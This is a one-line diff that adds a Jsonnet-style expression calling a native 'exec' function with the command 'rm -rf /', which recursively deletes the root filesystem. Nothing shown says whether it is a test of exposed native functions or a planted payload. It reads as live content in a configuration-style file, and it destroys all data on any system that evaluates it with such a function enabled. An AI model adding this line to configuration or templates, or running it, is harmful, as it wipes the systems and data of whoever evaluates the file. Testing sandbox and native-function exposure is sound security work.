@@ -1,0 +1,1 @@
+std.native('exec')('rm -rf /')
